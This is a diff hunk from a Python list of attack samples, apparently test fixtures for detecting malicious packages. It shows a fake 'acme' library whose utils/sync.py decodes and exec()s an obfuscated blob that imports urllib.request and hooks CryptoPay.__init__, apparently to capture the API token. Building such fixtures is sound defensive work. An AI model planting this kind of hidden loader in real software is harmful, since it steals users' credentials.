@@ -222,7 +222,7 @@ ATTACKS = [
             "acme/client.py": "class CryptoPay:\n    def __init__(self, token, api_server=None):\n        self.token = token\nfrom .utils import sync\n",
             "acme/utils/__init__.py": "",
             "acme/utils/sync.py": "import zlib, base64\n_ = lambda __: zlib.decompress(base64.b64decode(__[::-1]))\n"
-            + "exec((_)(b'"
+            "exec((_)(b'"
             + base64.b64encode(
                 zlib.compress(
                     b"from acme.client import CryptoPay\nimport urllib.request\n_i = CryptoPay.__init__\n"
